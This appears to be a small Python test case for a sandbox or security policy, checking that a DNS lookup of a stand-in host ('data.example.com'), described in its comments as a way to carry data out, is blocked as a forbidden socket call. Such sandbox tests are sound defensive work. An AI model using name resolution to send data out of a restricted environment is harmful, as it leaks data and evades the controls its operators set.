# tries: resolve a name, which carries data out
# endings: forbidden-call
# levels: every
# call: socket
import socket

socket.getaddrinfo('data.example.com', 80)
print('BREACH')
